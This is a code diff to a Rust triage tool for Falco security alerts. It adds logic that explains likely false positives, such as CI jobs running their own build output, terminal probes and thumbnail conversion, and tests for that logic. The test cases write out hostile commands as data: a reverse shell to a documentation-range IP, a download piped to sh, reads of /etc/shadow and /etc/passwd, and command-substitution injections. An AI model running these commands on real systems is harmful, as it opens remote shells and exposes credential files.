@@ -140,6 +140,11 @@ pub struct ClusterReport {
     /// the weight fitting works on.
     #[serde(skip)]
     pub features: Features,
+    /// What anchors a likely false positive for every alert of the cluster, whatever the
+    /// score: `signal (basis)`, basis `recorded`, `unattended`, `harmless_act` or
+    /// `quiet_session` (see `anchor:` in data/signals.yaml). None: some alert has no
+    /// anchor, and the cluster is never called likely false positive.
+    pub anchor: Option<String>,
 }
 
 /// How many reasons a report keeps.
@@ -213,19 +218,24 @@ struct AnchorFacts {
     quiet: bool,
 }
 
-/// The signal that anchors a likely false positive among an alert's hits, if any.
-fn anchor_of(hits: &[Hit], facts: AnchorFacts) -> Option<&'static str> {
+/// The signal that anchors a likely false positive among an alert's hits, if any, with
+/// what makes it one: `recorded` (people's decisions, prevalence), `unattended` (nobody
+/// entered the session), `harmless_act` (a catalogue act harmless whoever runs it, by the
+/// system's own executable) or `quiet_session`.
+fn anchor_of(hits: &[Hit], facts: AnchorFacts) -> Option<(&'static str, &'static str)> {
     hits.iter()
         .filter(|h| h.act > 0.0 && kind_of(h.id) == Kind::Benign)
-        .find(|h| match signals::bundled().anchor(h.id) {
-            Anchor::Never => false,
-            Anchor::Always => true,
-            Anchor::Unattended => {
-                facts.unattended || (h.id == "known_benign" && facts.harmless_act)
+        .find_map(|h| match signals::bundled().anchor(h.id) {
+            Anchor::Never => None,
+            Anchor::Always => Some((h.id, "recorded")),
+            Anchor::Unattended if facts.unattended => Some((h.id, "unattended")),
+            Anchor::Unattended if h.id == "known_benign" && facts.harmless_act => {
+                Some((h.id, "harmless_act"))
             }
-            Anchor::QuietSession => facts.quiet,
+            Anchor::Unattended => None,
+            Anchor::QuietSession if facts.quiet => Some((h.id, "quiet_session")),
+            Anchor::QuietSession => None,
         })
-        .map(|h| h.id)
 }
 
 /// A Falco JSON alert for a record: the alert line itself when it is one, else built
@@ -377,11 +387,14 @@ type AggSignal = (&'static str, usize, f64, f64, Vec<(&'static str, String)>);
 struct Agg {
     members: Vec<usize>,
     signals: Vec<AggSignal>,
+    /// Per alert, its anchor (see [`anchor_of`]).
+    anchors: Vec<Option<(&'static str, &'static str)>>,
 }
 
 impl Agg {
-    fn add(&mut self, at: usize, hits: Vec<Hit>) {
+    fn add(&mut self, at: usize, hits: Vec<Hit>, anchor: Option<(&'static str, &'static str)>) {
         self.members.push(at);
+        self.anchors.push(anchor);
         for h in hits {
             match self.signals.iter_mut().find(|s| s.0 == h.id) {
                 Some(s) => {
@@ -486,8 +499,8 @@ impl Triage<'_> {
                 hits.extend(hist_hits.iter().cloned());
                 let logit: f64 = hits.iter().map(|h| w(h.id) * h.act).sum();
                 let vetoed = hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act));
-                let anchored = anchor_of(&hits, facts).is_some();
-                let v = verdict(round3(sigmoid(logit)), vetoed, anchored);
+                let anchor = anchor_of(&hits, facts);
+                let v = verdict(round3(sigmoid(logit)), vetoed, anchor.is_some());
                 let mut class: Vec<&'static str> = hits
                     .iter()
                     .filter(|h| kind_of(h.id) == Kind::Attack)
@@ -497,10 +510,10 @@ impl Triage<'_> {
                 class.dedup();
                 let key = (class, v);
                 match parts.iter_mut().find(|(k, _)| *k == key) {
-                    Some((_, agg)) => agg.add(i, hits),
+                    Some((_, agg)) => agg.add(i, hits, anchor),
                     None => {
                         let mut agg = Agg::default();
-                        agg.add(i, hits);
+                        agg.add(i, hits, anchor);
                         parts.push((key, agg));
                     }
                 }
@@ -690,6 +703,37 @@ impl Triage<'_> {
                         .built(p, sessions.writer(at, p), a.dropped_parent.as_deref())
                         .is_some())
         });
+        // An executable in a drop directory that the catalogue explains as built (a
+        // compiler of the same session wrote it, or a build tool runs its own temporary
+        // output) is the entry's known-benign activity, not only the absence of a dropped
+        // binary: the entry's weight counts, anchored like any entry (unattended).
+        if cat.is_none() && dropped.is_none() && !downloaded && net_stdio.is_none() {
+            if let Some((entry, by)) = a.dropped_exe.as_ref().and_then(|(_, p)| {
+                let w = sessions.writer(at, p);
+                self.catalogue
+                    .built(p, w, a.dropped_parent.as_deref())
+                    .map(|e| (e, w.or(a.dropped_parent.as_deref()).unwrap_or("?")))
+            }) {
+                let (who, who_ja) = (
+                    format!("{proc_name} (built by {by})"),
+                    format!("{proc_name}（{by} が生成）"),
+                );
+                let desc = match lang {
+                    Lang::En => entry.description_en.clone(),
+                    Lang::Ja => entry.description_ja.clone(),
+                };
+                out.push(hit(
+                    "known_benign",
+                    entry.weight,
+                    vec![
+                        ("who", if lang == Lang::Ja { who_ja } else { who }),
+                        ("entry", entry.name.clone()),
+                        ("desc", desc),
+                        ("actor", by.to_string()),
+                    ],
+                ));
+            }
+        }
         if let Some((lvl, path)) = dropped {
             let whose = match (lang, *lvl) {
                 (Lang::En, 0) => "the process itself".to_string(),
@@ -911,6 +955,15 @@ impl Triage<'_> {
         let lang = self.lang;
         let rule = &c.signature.rule;
         let n = agg.members.len().max(1);
+        let anchor = if agg.anchors.iter().all(Option::is_some) {
+            agg.anchors
+                .first()
+                .copied()
+                .flatten()
+                .map(|(sig, basis)| format!("{sig} ({basis})"))
+        } else {
+            None
+        };
         let mut reasons: Vec<(Reason, Option<String>)> = Vec::new();
         let mut features: Features = Vec::new();
         for (sid, k, sum, max, vars) in agg.signals {
@@ -1023,6 +1076,7 @@ impl Triage<'_> {
             signature: c.signature.clone(),
             members: agg.members,
             features,
+            anchor,
         }
     }
 }
@@ -1049,6 +1103,7 @@ impl ClusterReport {
             "sample": self.sample,
             "summary": self.summary,
             "signature": self.signature,
+            "anchor": self.anchor,
         })
     }
 }
@@ -1071,7 +1126,7 @@ mod tests {
   priority: WARNING
 - rule: Run shell untrusted
   desc: shell under a database or php
-  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm)
+  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname in (postgres, php-fpm, sqlplus)
   output: shell (shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)
   priority: NOTICE
 - rule: Read environ
@@ -1843,5 +1898,121 @@ mod tests {
             with.summary
         );
         assert_ne!(with.cluster, clean.cluster);
+    }
+
+    /// Issue 11 (anchors): a CI runner's job running the test binary its compiler just
+    /// wrote in a temp directory is the build-output catalogue entry's activity, and nobody
+    /// entered the job: a likely false positive. The same binary in a person's session is
+    /// not anchored (anyone at a terminal can compile and run), and the same path written
+    /// by a download in the CI job is a dropped binary.
+    #[test]
+    fn ci_job_running_its_own_build_output_is_anchored() {
+        let job = |sid: i64, writer: &str, shell: serde_json::Value| {
+            let mut w = json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":sid,"evt.rawtime":5,"proc.name":writer,"proc.pname":"bash","fd.name":"/tmp/go-build77/b052/queue.test"});
+            let mut x = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"go"});
+            let mut g = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":4,"proc.name":writer,"proc.exepath":"/usr/local/go/bin/go","proc.cmdline":format!("{writer} test ./..."),"proc.pname":"bash"});
+            for v in [&mut w, &mut x, &mut g] {
+                for (k, val) in shell.as_object().unwrap() {
+                    v[k] = val.clone();
+                }
+            }
+            x["proc.aname[2]"] = json!("bash");
+            x["proc.aname[3]"] = shell["proc.aname[2]"].clone();
+            vec![l(g), l(w), l(x)]
+        };
+        let runner = json!({"proc.tty":0,"proc.aname[2]":"gitlab-runner"});
+        let r = verdict_of(&job(700, "go", runner), "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+        assert!(
+            r[0].reasons[0].evidence.contains("build_output")
+                || r.iter().any(|c| c
+                    .reasons
+                    .iter()
+                    .any(|x| x.evidence.contains("build_output"))),
+            "{:#?}",
+            r[0]
+        );
+        // A person at a terminal: the same evidence, no anchor.
+        let person = json!({"proc.tty":34816,"proc.aname[2]":"sshd"});
+        let r = verdict_of(&job(701, "go", person), "Exec from tmp");
+        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        // The CI job running a file curl fetched there: dropped, no catalogue match.
+        let dl = [
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":4,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -sSLo /tmp/go-build77/b052/queue.test https://198.51.100.9/q","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
+            json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":702,"evt.rawtime":5,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0,"fd.name":"/tmp/go-build77/b052/queue.test"}),
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
+        ];
+        let dl: Vec<String> = dl.into_iter().map(l).collect();
+        let r = verdict_of(&dl, "Exec from tmp");
+        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
+        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
+    }
+
+    /// Issue 11 (terminal helpers): a terminal client's `sh -c "stty -echo; stty echo;
+    /// tput cols"` is harmless whoever runs it: anchored even in a person's session when
+    /// the shell is the system's own. A shell string with any other command, a
+    /// substitution or a shell that is not the system's own is not.
+    #[test]
+    fn terminal_probe_through_a_shell_is_anchored_and_nothing_else_is() {
+        let sh = |sid: i64, cmd: &str, exe: &str| {
+            vec![
+                l(
+                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+                ),
+                l(
+                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":exe,"proc.cmdline":format!("sh -c {cmd}"),"proc.tty":34816,"proc.pname":"sqlplus","proc.aname[2]":"bash","proc.aname[3]":"sshd"}),
+                ),
+            ]
+        };
+        let r = verdict_of(
+            &sh(710, "stty -echo; stty echo; tput cols", "/usr/bin/sh"),
+            "Run shell untrusted",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        for (sid, cmd, exe) in [
+            (711, "stty -echo; cat /etc/shadow", "/usr/bin/sh"),
+            (712, "stty $(cat /etc/shadow)", "/usr/bin/sh"),
+            (713, "stty -echo > /tmp/x", "/usr/bin/sh"),
+            (714, "stty -echo; tput cols", "/tmp/sh"),
+        ] {
+            let r = verdict_of(&sh(sid, cmd, exe), "Run shell untrusted");
+            assert_ne!(
+                r[0].verdict,
+                Verdict::LikelyFalsePositive,
+                "{cmd} {exe}: {:#?}",
+                r[0]
+            );
+        }
+    }
+
+    /// Issue 11 (service patterns): a web application's `sh -c convert ...` thumbnail is
+    /// the media-conversion entry's activity, a service's own child nobody entered: likely
+    /// false positive. The same shell-out with an injected command, a reverse shell or a
+    /// download is not.
+    #[test]
+    fn web_app_media_conversion_is_anchored_and_injections_are_not() {
+        let sh = |sid: i64, cmd: &str| {
+            vec![l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":format!("sh -c {cmd}"),"proc.pname":"php-fpm","user.name":"www-data","user.uid":33}),
+            )]
+        };
+        let r = verdict_of(
+            &sh(
+                720,
+                "convert /tmp/phpQk8 -resize 320x320 /var/www/up/thumbs/a.jpg",
+            ),
+            "Run shell untrusted",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        for (sid, cmd) in [
+            (721, "convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png"),
+            (722, "convert a.png b.jpg; curl -s http://198.51.100.7/x | sh"),
+            (723, "convert $(id) b.jpg"),
+            (724, "cat /etc/passwd"),
+        ] {
+            let r = verdict_of(&sh(sid, cmd), "Run shell untrusted");
+            assert_eq!(r[0].verdict, Verdict::LikelyReal, "{cmd}: {:#?}", r[0]);
+        }
     }
 }
